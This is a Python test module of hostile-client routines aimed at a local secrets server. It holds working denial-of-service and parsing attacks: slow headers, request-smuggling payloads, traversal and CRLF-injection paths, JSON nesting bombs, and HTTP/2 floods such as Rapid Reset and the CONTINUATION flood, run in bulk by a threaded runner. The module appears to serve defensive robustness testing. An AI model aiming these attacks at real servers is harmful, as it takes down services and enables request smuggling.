"""What hostile clients do to a server, again and again until told to end: used by the tests and by the flood.

Each attack takes a `Place` and goes through one turn of its own; `Crowd` repeats it from many threads.
"""

import collections
import itertools
import os
import random
import select
import socket
import ssl
import struct
import threading
import time

import frames
from frames import HTTP2, frame

# Seconds that a connection may take.
TIMEOUT = 30


class Place:
    """Where to attack, in a form that another process can be given."""

    def __init__(self, port, ca, tenant, token=None):
        self.port, self.ca, self.tenant, self.token = port, ca, tenant, token

    def plain(self, timeout=TIMEOUT):
        return socket.create_connection(("127.0.0.1", self.port), timeout=timeout)

    def secure(self, timeout=TIMEOUT, version=None):
        context = ssl.create_default_context(cafile=self.ca)
        if version:
            context.minimum_version = context.maximum_version = version
        plain = self.plain(timeout)
        try:
            return context.wrap_socket(plain, server_hostname="localhost")
        except BaseException:
            plain.close()
            raise

    def http2(self, settings=b"", timeout=TIMEOUT):
        return HTTP2(self.port, self.ca, settings, timeout)

    def head(self, method, path, *more, token=True):
        lines = [f"{method} {path} HTTP/1.1", f"Host: localhost:{self.port}", *more]
        if token and self.token:
            lines.append(f"Authorization: Bearer {self.token}")
        return "\r\n".join([*lines, "", ""]).encode()


def answer(secure):
    """All that comes until the server closes."""
    received = b""
    try:
        while chunk := secure.recv(65536):
            received += chunk
    except OSError:
        pass
    return received


def first_status(secure):
    """The status of the first answer; None when there is none."""
    received = b""
    try:
        while b"\r\n" not in received and (chunk := secure.recv(4096)):
            received += chunk
    except OSError:
        pass
    return int(received.split()[1]) if received.startswith(b"HTTP/1.1 ") else None


# Slow and idle

def trickle(place, ended, secure, data):
    """Sends a byte now and then until the server has had enough."""
    for byte in itertools.chain(data, itertools.repeat(0x79)):
        if ended.wait(0.5):
            return "left"
        try:
            secure.send(bytes((byte,)))
            if select.select([secure], [], [], 0)[0] and not secure.recv(4096):
                return "closed"
        except OSError:
            return "closed"
    return "left"


def slow_heads(place, ended):
    with place.secure() as secure:
        return trickle(place, ended, secure, place.head("GET", "/secrets", "X-Padding: ", token=False)[:-4])


def slow_bodies(place, ended):
    """Where a body is read before anyone is known: at the issuer."""
    with place.secure() as secure:
        secure.sendall(place.head("POST", f"/{place.tenant}/oauth2/v2.0/token", "Content-Length: 30000",
                                  "Content-Type: application/x-www-form-urlencoded", token=False))
        return trickle(place, ended, secure, b"grant_type=client_credentials&scope=")


def idle(place, ended):
    """A connection that says hello and nothing more."""
    with place.secure() as secure:
        secure.settimeout(0.5)
        while not ended.is_set():
            try:
                if not secure.recv(1):
                    return "closed"
            except TimeoutError:
                pass
        return "left"


def idle_without_hello(place, ended):
    with place.plain() as plain:
        plain.settimeout(0.5)
        while not ended.is_set():
            try:
                if not plain.recv(1):
                    return "closed"
            except TimeoutError:
                pass
        return "left"


# TLS

def garbage(place, ended):
    """Bytes that are no TLS, a hello cut short, a hello with noise in it."""
    kind = random.randrange(4)
    noise = os.urandom(random.randrange(1, 4_000))
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    data = [b"\x16" + noise, hello + noise, b"\x17\x03\x03\x40\x00" + noise, hello][kind]
    with place.plain() as plain:
        plain.sendall(data)
        plain.shutdown(socket.SHUT_WR)
        return "answered" if answer(plain).startswith(b"HTTP/1.1 2") else "closed"


def handshakes(place, ended):
    """Handshakes and nothing else."""
    place.secure().close()
    return "done"


# HTTP/1.1

# (id, bytes after the request line, with which two servers could see two different requests)
HIDDEN = b"GET /rekey-smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
SMUGGLING = {
    "length and chunks": b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(HIDDEN)),
    "chunks and length": b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "two lengths": b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "lengths in a list": b"Content-Length: 0, %d\r\n\r\n" % len(HIDDEN),
    "signed length": b"Content-Length: +0\r\n\r\n",
    "length in hex": b"Content-Length: 0x0\r\n\r\n",
    "length with underscore": b"Content-Length: 0_0\r\n\r\n",
    "huge length": b"Content-Length: 18446744073709551616\r\n\r\n",
    "folded field": b"X-One: a\r\n Content-Length: 0\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "folded length": b"Content-Length:\r\n 0\r\n\r\n",
    "bare line feeds": b"Content-Length: 0\n\n",
    "line feed in the chunks": b"Transfer-Encoding: chunked\r\n\r\n0\n\n",
    "bare carriage return": b"X-One: a\rContent-Length: 0\r\n\r\n",
    "space before the colon": b"Content-Length : 0\r\n\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n",
    "space before the field": b" Content-Length: 0\r\n\r\n",
    "unknown coding": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "coding after chunked": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "coding in quotes": b'Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n',
    "coding after a tab": b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "nul in a field": b"X-One: a\x00b\r\nContent-Length: 0\r\n\r\n",
    "signed chunk": b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n",
    "chunk in 0x": b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    "chunk beyond 64 bits": b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n",
    "chunk extension with a line feed": b"Transfer-Encoding: chunked\r\n\r\n0;a\nb\r\n\r\n",
    "chunk without its end": b"Transfer-Encoding: chunked\r\n\r\n1\r\naXX0\r\n\r\n",
}


def smuggle(place, ended):
    form = random.choice(list(SMUGGLING.values()))
    with place.secure() as secure:
        secure.sendall(b"POST /secrets/smuggle HTTP/1.1\r\nHost: localhost\r\n" + form + HIDDEN)
        return f"answered {first_status(secure)}"


ODD_PATHS = [
    "/secrets/%00", "/secrets/a%00b", "/secrets/..%2f..%2fkeys", "/secrets/%2e%2e/keys", "/secrets/../keys",
    "/secrets/./a", "//secrets", "/secrets//", "/secrets/a%2Fb", "/secrets/a%5cb", "/secrets/%", "/secrets/%zz",
    "/secrets/%c0%ae%c0%ae", "/secrets/%ff%fe", "/secrets/a;b=c", "/secrets/a%0d%0aX-Injected:%20y", "/%73ecrets",
    "/secrets/" + "a" * 8_000, "/" + "/" * 8_000, "/secrets/" + "%41" * 2_500, "/secrets?" + "a=b&" * 2_000,
    "/secrets?api-version=7.6&api-version=7.5", "/secrets?maxresults=99999999999999999999&api-version=7.6",
    "/secrets?$skiptoken=" + "%00" * 500 + "&api-version=7.6", "https://elsewhere.example/secrets", "*",
]


def oddities(place, ended):
    path = random.choice(ODD_PATHS)
    with place.secure() as secure:
        secure.sendall(place.head(random.choice(["GET", "PUT", "BREW"]), path, "Connection: close"))
        return f"answered {first_status(secure)}"


def large_heads(place, ended):
    fields = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 200) for number in range(2_000))
    with place.secure() as secure:
        try:
            secure.sendall(b"GET /secrets HTTP/1.1\r\n" + fields + b"\r\n")
        except OSError:
            pass  # the server may close while there is more to come
        return f"answered {first_status(secure)}"


# JSON

def nested(depth, opening=b'{"a":', closing=b"}"):
    return opening * depth + b"1" + closing * depth


# Most as large as a body may be, so that the whole of them is read.
DOCUMENTS = {
    "deep lists": nested(125_000, b"[", b"]"),
    "deep objects": nested(40_000),
    "lists without an end": b"[" * 250_000,
    "one long string": b'{"value":"' + b"v" * 250_000 + b'"}',
    "many members": b"{" + b",".join(b'"m%d":0' % number for number in range(25_000)) + b"}",
    "the same member": b"{" + b",".join([b'"value":"v"'] * 20_000) + b"}",
    "a long number": b'{"value":' + b"9" * 250_000 + b"}",
    "a large exponent": b'{"value":"v","attributes":{"exp":1e999999999}}',
    "many escapes": b'{"value":"' + b"\\u0041" * 40_000 + b'"}',
    "many tags": b'{"value":"v","tags":{' + b",".join(b'"t%d":"v"' % number for number in range(20_000)) + b"}}",
    "not UTF-8": b'{"value":"' + b"\xff\xfe" * 120_000 + b'"}',
    "three million brackets": b"[" * 3_000_000,
}


def documents(place, ended):
    """With a token, so that they are read."""
    body = random.choice(list(DOCUMENTS.values()))
    with place.secure() as secure:
        try:
            secure.sendall(place.head("PUT", "/secrets/document?api-version=7.6", "Content-Type: application/json",
                                      f"Content-Length: {len(body)}") + body)
        except OSError:
            pass
        return f"answered {first_status(secure)}"


# HTTP/2

def until_closed(connection, ended, turns):
    """Sends turn after turn until the server says farewell; reads what comes so that it could say so."""
    connection.socket.settimeout(0.5)
    sent = 0
    try:
        for turn in turns:
            connection.send(*turn)
            sent += len(turn)
            if ended.is_set():
                return "left"
            while select.select([connection.socket], [], [], 0)[0] or connection.socket.pending():
                if not connection.socket.recv(65536):
                    return "closed"
        connection.farewell()
    except OSError:
        pass
    return "closed"


def rapid_resets(place, ended):
    """CVE-2023-44487."""
    with place.http2() as connection:
        block = frames.request(place.port, path="/secrets?api-version=7.6")
        cancel = struct.pack("!I", 8)
        return until_closed(connection, ended, (
            [part for stream in range(first, first + 100, 2) for part in (
                frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block),
                frame(frames.RST_STREAM, 0, stream, cancel))]
            for first in range(1, 2_000_000, 100)))


def made_resets(place, ended):
    """CVE-2025-8671: frames that have the server reset the stream."""
    with place.http2() as connection:
        block = frames.request(place.port, path="/secrets?api-version=7.6")
        return until_closed(connection, ended, (
            [part for stream in range(first, first + 100, 2) for part in (
                frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block),
                frame(frames.WINDOW_UPDATE, 0, stream, struct.pack("!I", 0)))]
            for first in range(1, 2_000_000, 100)))


def continuations(place, ended):
    """CVE-2024-27316: a head that never ends."""
    with place.http2() as connection:
        connection.send(frame(frames.HEADERS, 0, 1, frames.request(place.port)))
        part = frame(frames.CONTINUATION, 0, 1, frames.field("x-more", "y" * 10_000))
        return until_closed(connection, ended, ([part] for _ in range(1_000_000)))


def control_flood(kind, payload):
    def attack(place, ended):
        with place.http2() as connection:
            one = frame(kind, 0, 0, payload)
            return until_closed(connection, ended, ([one] * 100 for _ in range(1_000_000)))
    return attack


def empty_data(place, ended):
    with place.http2() as connection:
        connection.send(frame(frames.HEADERS, frames.END_HEADERS, 1, frames.request(
            place.port, "POST", f"/{place.tenant}/oauth2/v2.0/token")))
        return until_closed(connection, ended, ([frame(frames.DATA, 0, 1)] * 100 for _ in range(1_000_000)))


def priorities(place, ended):
    with place.http2() as connection:
        return until_closed(connection, ended, (
            [frame(frames.PRIORITY, 0, stream, struct.pack("!IB", 0, 15)) for stream in range(first, first + 200, 2)]
            for first in range(1, 2_000_000, 200)))


def header_bomb(place, ended):
    """A field of 4,000 bytes kept in the table, then named again and again by a single byte."""
    with place.http2() as connection:
        block = frames.request(place.port) + frames.kept_field("x-bomb", "y" * 3_900)
        connection.send(frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, 1, block))
        bomb = frames.request(place.port) + b"\xbe" * 15_000
        return until_closed(connection, ended, (
            [frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, bomb)]
            for stream in range(3, 2_000_000, 2)))


def window_overflow(place, ended):
    with place.http2() as connection:
        return until_closed(connection, ended, (
            [frame(frames.WINDOW_UPDATE, 0, 0, struct.pack("!I", 0x7FFFFFFF))] for _ in range(1_000_000)))


def closed_windows(place, ended):
    """Asks for a hundred answers and lets none through."""
    with place.http2(frames.setting(frames.INITIAL_WINDOW_SIZE, 0)) as connection:
        for stream in range(1, 200, 2):
            connection.ask(stream, "/secrets/read?api-version=7.6")
        connection.socket.settimeout(0.5)
        while not ended.is_set():
            try:
                if not connection.socket.recv(65536):
                    return "closed"
            except TimeoutError:
                pass
            except OSError:
                return "closed"
        return "left"


ATTACKS = {
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "idle connections": idle,
    "idle before TLS": idle_without_hello,
    "TLS garbage": garbage,
    "TLS handshakes": handshakes,
    "smuggling": smuggle,
    "odd paths": oddities,
    "large heads": large_heads,
    "huge and nested JSON": documents,
    "HTTP/2 rapid resets": rapid_resets,
    "HTTP/2 made resets": made_resets,
    "HTTP/2 CONTINUATION": continuations,
    "HTTP/2 SETTINGS": control_flood(frames.SETTINGS, b""),
    "HTTP/2 PING": control_flood(frames.PING, b"12345678"),
    "HTTP/2 PRIORITY": priorities,
    "HTTP/2 empty DATA": empty_data,
    "HTTP/2 header bomb": header_bomb,
    "HTTP/2 window overflow": window_overflow,
    "HTTP/2 closed windows": closed_windows,
}


class Crowd:
    """Threads that go through an attack again and again, from `with` to its end; `outcomes` counts how turns ended."""

    def __init__(self, place, attack, size, pause=0.0):
        self.place, self.attack, self.pause = place, attack, pause
        self.ended, self.lock, self.outcomes = threading.Event(), threading.Lock(), collections.Counter()
        self.threads = [threading.Thread(target=self.run, daemon=True) for _ in range(size)]

    def __enter__(self):
        threading.stack_size(256 << 10)
        for thread in self.threads:
            thread.start()
        threading.stack_size(0)
        return self

    def __exit__(self, *_):
        self.ended.set()
        for thread in self.threads:
            thread.join(60)

    def run(self):
        while not self.ended.is_set():
            try:
                outcome = ATTACKS[self.attack](self.place, self.ended)
            except OSError:
                outcome = "refused"
            with self.lock:
                self.outcomes[outcome] += 1
            self.ended.wait(self.pause)


class Process:
    """The server's process as the system sees it."""

    def __init__(self, pid):
        self.pid = pid

    @property
    def resident(self):
        """Memory in MiB."""
        with open(f"/proc/{self.pid}/status") as file:
            return next(int(line.split()[1]) / 1024 for line in file if line.startswith("VmRSS:"))

    @property
    def files(self):
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def settle(self, files, seconds=60):
        """Waits until no more files are open than before."""
        deadline = time.monotonic() + seconds
        while self.files > files and time.monotonic() < deadline:
            time.sleep(0.1)
        return self.files
